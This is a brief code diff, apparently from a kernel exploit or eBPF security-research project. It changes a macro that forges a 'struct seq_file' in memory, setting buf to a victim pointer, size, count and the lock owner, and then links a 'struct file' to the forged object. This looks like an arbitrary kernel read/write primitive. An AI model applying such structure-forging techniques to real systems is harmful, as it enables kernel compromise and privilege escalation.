@@ -70,7 +70,8 @@ static __always_inline __u64 number(const volatile void *pointer)
 	PUT(m, bpf_core_field_offset(struct seq_file, buf), (__u64)victim); \
 	PUT(m, bpf_core_field_offset(struct seq_file, size), 256); \
 	PUT(m, bpf_core_field_offset(struct seq_file, count), 0); \
-	PUT(m, bpf_core_field_offset(struct seq_file, lock), bpf_get_current_task()); \
+	PUT(m, bpf_core_field_offset(struct seq_file, lock.owner.counter), \
+	    bpf_get_current_task()); \
 	PUT(m, bpf_core_field_offset(struct seq_file, file), (__u64)(f)); \
 	PUT(f, bpf_core_field_offset(struct file, private_data), (__u64)(m)); \
 } while (0)
